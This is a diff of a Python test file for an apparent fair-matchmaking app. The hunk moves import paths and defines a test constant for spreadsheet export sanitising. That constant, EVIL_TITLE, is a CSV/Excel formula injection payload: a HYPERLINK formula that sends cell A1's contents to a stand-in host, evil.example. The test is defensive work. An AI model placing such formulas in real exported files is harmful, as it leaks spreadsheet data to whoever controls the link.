@@ -8,12 +8,13 @@ from datetime import date, timedelta
 import pytest
 from openpyxl import load_workbook
 
-from matchmaker.extensions import db
-from matchmaker.models import Suggestion
-from matchmaker.services import fair_plan, pairs
-from matchmaker.services import fairs as fair_service
-from matchmaker.services.exports import FORMULA_STARTS, cell_value, neutralize
-from matchmaker.services.taxonomy import field_by_name
+from matchmaker.core.exports import FORMULA_STARTS, cell_value, neutralize
+from matchmaker.core.extensions import db
+from matchmaker.fairs import organize as fair_service
+from matchmaker.fairs import plan as fair_plan
+from matchmaker.listings.taxonomy import field_by_name
+from matchmaker.pairs import transitions as pairs
+from matchmaker.runs.models import Suggestion
 
 FIELD = "机器人与智能制造"
 EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
